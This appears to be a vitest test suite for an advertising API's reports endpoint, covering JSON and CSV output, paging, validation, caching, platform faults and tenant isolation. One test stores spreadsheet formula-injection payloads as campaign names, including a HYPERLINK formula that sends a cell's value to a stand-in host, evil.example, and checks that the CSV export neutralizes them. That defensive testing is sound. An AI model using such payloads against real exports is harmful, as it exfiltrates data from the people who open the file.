import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AdSetClient, expectError } from './support/adsets-client.js';
import { ok, type SandboxScenario, sandboxScenario } from './support/adsets-scenario.js';
import { CampaignClient } from './support/campaigns-client.js';
import { type Company, keysOf, newCustomer } from './support/connect-helpers.js';
import { csvReportRows } from './support/csv.js';
import { type Harness, startHarness } from './support/harness.js';
import type { Json } from './support/sandbox-direct.js';

const DAY = 86_400_000;
const day = (offset: number) => new Date(Date.now() + offset * DAY).toISOString().slice(0, 10);
/** The last 7 days that are over in every time zone. */
const closedWeek = { from: day(-9), to: day(-3) };
type Query = Record<string, string | number | boolean>;

describe('reports: the API on the sandbox', () => {
  let h: Harness;
  let company: Company;
  let s: SandboxScenario;

  beforeAll(async () => {
    h = await startHarness();
    company = await h.company('Report Vendor');
    s = await sandboxScenario(h, company, 'Reporting Bakery');
  });
  afterAll(() => h?.close());

  const get = (path: string, query: Query, accept = 'application/json') =>
    h.http
      .get(path)
      .query({ customer: s.client.customer, ...query })
      .set('Authorization', company.auth)
      .set('Accept', accept);
  const report = (query: Query, accept?: string) =>
    get('/reports', { level: 'adset', ...closedWeek, ...query }, accept);

  it('answers rows with ratios from the sums, spend in the currency, and each advertiser’s zone', async () => {
    const body = ok<Json>(await report({ platform: 'sandbox' }));
    expect(body.has_more).toBe(false);
    expect(body.advertisers).toEqual([
      { platform: 'sandbox', advertiser: s.eur.id, currency: 'EUR', timeZone: 'Europe/Berlin' },
      { platform: 'sandbox', advertiser: s.usd.id, currency: 'USD', timeZone: 'America/New_York' },
    ]);
    expect(body.data.length).toBeGreaterThan(0);
    for (const row of body.data) {
      expect(row).toMatchObject({ level: 'adset', platform: 'sandbox', campaignId: expect.any(String) });
      expect(row.date >= closedWeek.from && row.date <= closedWeek.to).toBe(true);
      expect(row.currency).toBe(row.advertiser === s.eur.id ? 'EUR' : 'USD');
      expect(Math.round(row.spend * 100) / 100).toBe(row.spend);
      expect(row.ctr).toBe(Math.round((row.clicks / row.impressions) * 1e6) / 1e6);
      expect(row.cpc).toBe(row.clicks ? Math.round((row.spend / row.clicks) * 100) / 100 : null);
      expect(row.cpm).toBe(Math.round(((row.spend * 1000) / row.impressions) * 100) / 100);
    }
    // Without a platform: every connected one (here only the sandbox), the same rows.
    expect(ok<Json>(await report({})).data).toEqual(body.data);
    const total = ok<Json>(await report({ platform: 'sandbox', granularity: 'total' }));
    const adSets = new Set(body.data.map((r: Json) => r.id));
    expect(total.data.map((r: Json) => r.id).sort()).toEqual([...adSets].sort());
    for (const row of total.data) {
      expect(row.date).toBeUndefined();
      const days = body.data.filter((r: Json) => r.id === row.id);
      expect(row.impressions).toBe(days.reduce((sum: number, r: Json) => sum + r.impressions, 0));
    }
  });

  it('pages in a stable order (platform, advertiser, entity, day); a cursor belongs to its report', async () => {
    const all = ok<Json>(await report({ level: 'ad' })).data;
    const seen: Json[] = [];
    let cursor: string | undefined;
    do {
      const page = ok<Json>(await report({ level: 'ad', limit: 7, ...(cursor ? { cursor } : {}) }));
      seen.push(...page.data);
      cursor = page.next_cursor;
      expect(page.has_more).toBe(cursor !== undefined);
    } while (cursor);
    expect(seen).toEqual(all);
    const keys = all.map((r: Json) => `${r.platform}|${r.advertiser}|${r.id}|${r.date}`);
    expect(keys).toEqual([...keys].sort());
    const first = ok<Json>(await report({ level: 'ad', limit: 7 }));
    expectError(
      await report({ level: 'adset', cursor: first.next_cursor }),
      400,
      'invalid_request',
      'cursor',
    );
  });

  it('reports one ad set or campaign at /v1/:platform/…/report', async () => {
    const rows = ok<Json>(await report({ platform: 'sandbox' })).data;
    const { id: adSet, campaignId } = rows[0];
    const own = ok<Json>(await get(`/v1/sandbox/adsets/${adSet}/report`, closedWeek)).data;
    expect(own).toEqual(rows.filter((r: Json) => r.id === adSet));
    const ads = ok<Json>(
      await get(`/v1/sandbox/adsets/${adSet}/report`, { ...closedWeek, level: 'ad' }),
    ).data;
    expect(ads.length).toBeGreaterThan(0);
    for (const row of ads) expect(row).toMatchObject({ level: 'ad', adsetId: adSet, campaignId });
    const campaign = ok<Json>(await get(`/v1/sandbox/campaigns/${campaignId}/report`, closedWeek)).data;
    expect(new Set(campaign.map((r: Json) => r.id))).toEqual(new Set([campaignId]));
    const ofCampaign = ok<Json>(
      await get(`/v1/sandbox/campaigns/${campaignId}/report`, { ...closedWeek, level: 'adset' }),
    ).data;
    expect(ofCampaign).toEqual(rows.filter((r: Json) => r.campaignId === campaignId));
    expectError(
      await get(`/v1/sandbox/adsets/${adSet}/report`, { ...closedWeek, level: 'campaign' }),
      400,
      'invalid_request',
      'level',
    );
  });

  it('answers CSV with Accept: text/csv: one header line, CRLF, quoting, the same rows as JSON', async () => {
    const rows = ok<Json>(await report({ platform: 'sandbox' })).data;
    const renamed = 'Rye, "dark" & light';
    const put = await s.client.put(rows[0].id, { name: renamed });
    expect(put.status, JSON.stringify(put.body)).toBe(200);
    const query = { platform: 'sandbox', dismissDatabase: true };
    const json = ok<Json>(await report(query)).data;
    expect(json.find((r: Json) => r.id === rows[0].id).name).toBe(renamed);
    const csv = await report(query, 'text/csv');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.text.split('\r\n')[0]).toBe(
      'level,id,name,platform,advertiser,campaignId,adsetId,date,currency,spend,impressions,clicks,conversions,ctr,cpc,cpm',
    );
    expect(csv.text).toContain('"Rye, ""dark"" & light"');
    expect(csvReportRows(csv.text)).toEqual(json);

    // Pages as JSON does, the next page's URL in a Link header.
    const page = await report({ platform: 'sandbox', limit: 5 }, 'text/csv');
    const next = /^<([^>]+)>; rel="next"$/.exec(String(page.headers.link))?.[1] ?? 'no Link header';
    expect(csvReportRows(page.text)).toEqual(json.slice(0, 5));
    const second = await h.http.get(next).set('Authorization', company.auth).set('Accept', 'text/csv');
    expect(csvReportRows(second.text)).toEqual(json.slice(5, 10));
  });

  it('writes names a spreadsheet would run as formulas as text in CSV; numbers stay numbers', async () => {
    const campaigns = new CampaignClient(h, company, s.client.customer);
    const query = { platform: 'sandbox', level: 'campaign', granularity: 'total', dismissDatabase: true };
    const ids: string[] = ok<Json>(await report(query)).data.map((r: Json) => r.id);
    const names = [
      '=HYPERLINK("https://evil.example/?leak="&J2,"Open report")',
      '+1+cmd',
      '-2+3',
      '@SUM(A1)',
    ];
    expect(ids.length).toBeGreaterThanOrEqual(names.length);
    for (const [i, name] of names.entries()) ok(await campaigns.put(ids[i]!, { name }));
    const json = ok<Json>(await report(query)).data;
    const csv = await report(query, 'text/csv');
    expect(csv.status).toBe(200);
    // OWASP's defence: a leading ' makes the cell text, and the field is quoted (inner quotes doubled).
    expect(csv.text).toContain('"\'=HYPERLINK(""https://evil.example/?leak=""&J2,""Open report"")"');
    for (const name of names.slice(1)) expect(csv.text).toContain(`"'${name}"`);
    const rows = csvReportRows(csv.text);
    for (const [i, name] of names.entries()) {
      expect(json.find((r: Json) => r.id === ids[i]).name, 'JSON keeps the name as it is').toBe(name);
      expect(rows.find((r) => r.id === ids[i])!.name).toBe(`'${name}`);
    }
    // The metrics adlink writes itself are never neutralized: the same numbers as JSON.
    const metrics = ['spend', 'impressions', 'clicks', 'conversions', 'ctr', 'cpc', 'cpm'];
    const pick = (r: Json) => [r.id, ...metrics.map((m) => r[m])];
    expect(rows.map(pick)).toEqual(json.map(pick));
  });

  it('refuses bad input on every parameter, naming it', async () => {
    const cases: [Query, string, string][] = [
      [{ level: 'keyword' }, 'invalid_request', 'level'],
      [{ granularity: 'week' }, 'invalid_request', 'granularity'],
      [{ from: '2025-02-30' }, 'invalid_request', 'from'],
      [{ from: 'yesterday' }, 'invalid_request', 'from'],
      [{ to: '2025-1-01' }, 'invalid_request', 'to'],
      [{ from: day(-3), to: day(-9) }, 'invalid_request', 'from'],
      [{ from: day(-400), to: day(-3) }, 'invalid_request', 'to'],
      [{ from: day(-3), to: day(3) }, 'invalid_request', 'to'],
      [{ platform: 'sandbox', from: day(-1200), to: day(-1190) }, 'invalid_request', 'from'],
      [{ advertiser: 'act_nope' }, 'invalid_request', 'advertiser'],
      [{ platform: 'sandbox', advertiser: 'act_nope' }, 'invalid_request', 'advertiser'],
      [{ campaignId: 'has space' }, 'invalid_request', 'campaignId'],
      [{ adset: '' }, 'invalid_request', 'adset'],
      [{ level: 'campaign', adset: 'as_1' }, 'invalid_request', 'level'],
      [{ limit: 0 }, 'invalid_request', 'limit'],
      [{ limit: 10_001 }, 'invalid_request', 'limit'],
      [{ cursor: 'garbage' }, 'invalid_request', 'cursor'],
      [{ dismissDatabase: 'yes' }, 'invalid_request', 'dismissDatabase'],
      [{ metrics: 'spend' }, 'unknown_parameter', 'metrics'],
    ];
    for (const [query, code, param] of cases) {
      const res = await report(query);
      expect({ query, status: res.status, code: res.body.error?.code, param: res.body.error?.param }).toEqual(
        {
          query,
          status: 400,
          code,
          param,
        },
      );
    }
    expectError(await report({ platform: 'nope' }), 404, 'platform_not_found', 'platform');
    expectError(await report({ platform: 'meta' }), 409, 'platform_not_connected', 'platform');
    expectError(
      await h.http
        .get('/reports')
        .query({ ...closedWeek, customer: s.client.customer })
        .set('Authorization', company.auth),
      400,
      'invalid_request',
      'level',
    );
    expectError(await get('/v1/sandbox/adsets/x/report', { to: day(-3) }), 400, 'invalid_request', 'from');
    expectError(await get('/v1/nope/campaigns/x/report', closedWeek), 404, 'platform_not_found', 'platform');
    const bare = new AdSetClient(h, company, await newCustomer(h, company, 'No platforms'));
    const none = ok<Json>(await get('/reports', { level: 'ad', ...closedWeek, customer: bare.customer }));
    expect(none).toEqual({ has_more: false, data: [], advertisers: [] });
  });

  it('caches per query: a second read makes no platform call, dismissDatabase=true does', async () => {
    const query = { platform: 'sandbox', level: 'campaign', from: day(-20), to: day(-14) };
    const first = ok<Json>(await report(query)).data;
    await s.direct.api.fault('server_error', 1, `/ad_accounts/${s.eur.id}/reports`);
    expect(ok<Json>(await report(query)).data).toEqual(first);
    expect(await s.direct.api.pendingFaults()).toBe(1);
    // The same report asked differently (the parameters in another order) is the same cache entry.
    expect(
      ok<Json>(await get('/reports', { to: query.to, level: 'campaign', from: query.from })).data,
    ).toEqual(first);
    expect(await s.direct.api.pendingFaults()).toBe(1);
    expectError(await report({ ...query, dismissDatabase: true }), 502, 'platform_error');
    expect(await s.direct.api.pendingFaults()).toBe(0);
    expect(ok<Json>(await report({ ...query, dismissDatabase: true })).data).toEqual(first);
  });

  it('lists a failing platform in unavailable across platforms; alone, its error is the answer', async () => {
    const query = { level: 'campaign', from: day(-30), to: day(-25) };
    await s.direct.api.fault('server_error', 1, '/ad_accounts/');
    const body = ok<Json>(await report(query));
    expect(body).toMatchObject({ data: [], advertisers: [] });
    expect(body.unavailable).toEqual([
      {
        platform: 'sandbox',
        code: 'platform_error',
        message: expect.stringContaining('injected test fault'),
      },
    ]);
    expect(ok<Json>(await report(query)).data.length).toBeGreaterThan(0);
  });

  it("surfaces the platform's rate limit as 429 platform_rate_limited with Retry-After", async () => {
    await s.direct.api.fault('rate_limited', 3, '/ad_accounts/');
    const res = await report({ platform: 'sandbox', from: day(-40), to: day(-35) });
    expectError(res, 429, 'platform_rate_limited');
    expect(res.headers['retry-after']).toBe('7');
    await s.direct.api.clearFaults();
  });
});

describe('reports: the cache after a disconnect', () => {
  let h: Harness;
  afterAll(() => h?.close());

  it("forgets the customer's cached reports of the platform", async () => {
    h = await startHarness();
    const company = await h.company('Leaving Vendor');
    const s = await sandboxScenario(h, company, 'Leaving Bakery');
    const cached = async () =>
      (await keysOf(h)).filter(
        (k) =>
          k.includes(`:report_cache:${s.client.customer}:`) ||
          k.includes(`:report_rows:${s.client.customer}:`) ||
          k.includes(':reports:'),
      );
    for (const level of ['campaign', 'ad']) {
      const res = await h.http
        .get('/reports')
        .query({ customer: s.client.customer, level, ...closedWeek })
        .set('Authorization', company.auth);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
    }
    // Each report's description and rows, and the index of them.
    expect(await cached()).toHaveLength(5);
    const gone = await h.http
      .delete(`/customers/${s.client.customer}/connections/sandbox`)
      .set('Authorization', company.auth);
    expect(gone.status, JSON.stringify(gone.body)).toBe(200);
    expect(await cached()).toEqual([]);
  });
});

describe('reports: a platform still working answers 202, then the report at GET /reports/:id', () => {
  let h: Harness;
  let company: Company;
  let s: SandboxScenario;

  beforeAll(async () => {
    h = await startHarness({ env: { PLATFORM_TIMEOUT_MS: '400' } });
    company = await h.company('Patient Vendor');
    s = await sandboxScenario(h, company, 'Slow Bakery');
  });
  afterAll(() => h?.close());

  it('polls inside the request, answers 202 with Retry-After, then 200 once done; other tenants get 404', async () => {
    const query = { customer: s.client.customer, level: 'ad', ...closedWeek, platform: 'sandbox' };
    await s.direct.api.expect(200, 'PUT', '/_test/report_delay', { delay_ms: 1_500 });
    const started = Date.now();
    const res = await h.http.get('/reports').query(query).set('Authorization', company.auth);
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    expect(Date.now() - started).toBeGreaterThanOrEqual(350);
    expect(res.headers['retry-after']).toBe('1');
    expect(res.body).toEqual({ id: expect.stringMatching(/^rpt_/), status: 'pending' });
    const id = res.body.id as string;
    const poll = () => h.http.get(`/reports/${id}`).set('Authorization', company.auth);
    expect((await poll()).status).toBe(202);

    const other = await h.company('Other Vendor');
    expectError(
      await h.http.get(`/reports/${id}`).set('Authorization', other.auth),
      404,
      'report_not_found',
      'id',
    );
    const stranger = await newCustomer(h, company, 'Stranger');
    const token = await h.http
      .post(`/customers/${stranger}/access_tokens`)
      .set('Authorization', company.auth)
      .send({ scope: 'read' });
    const asStranger = `Bearer ${token.body.token}`;
    expectError(
      await h.http.get(`/reports/${id}`).set('Authorization', asStranger),
      404,
      'report_not_found',
      'id',
    );

    await new Promise((resolve) => setTimeout(resolve, 1_500));
    const done = await poll();
    expect(done.status, JSON.stringify(done.body)).toBe(200);
    expect(done.body).toMatchObject({ id, status: 'done', has_more: false });
    expect(done.body.data.length).toBeGreaterThan(0);
    // Finished, the report is cached: the same request answers at once, with the same rows.
    await s.direct.api.expect(200, 'PUT', '/_test/report_delay', { delay_ms: 0 });
    expect(
      ok<Json>(await h.http.get('/reports').query(query).set('Authorization', company.auth)).data,
    ).toEqual(done.body.data);
    const csv = await poll().set('Accept', 'text/csv');
    expect(csvReportRows(csv.text)).toEqual(done.body.data);
    expectError(
      await h.http.get('/reports/rpt_nope').set('Authorization', company.auth),
      404,
      'report_not_found',
    );
  });
});
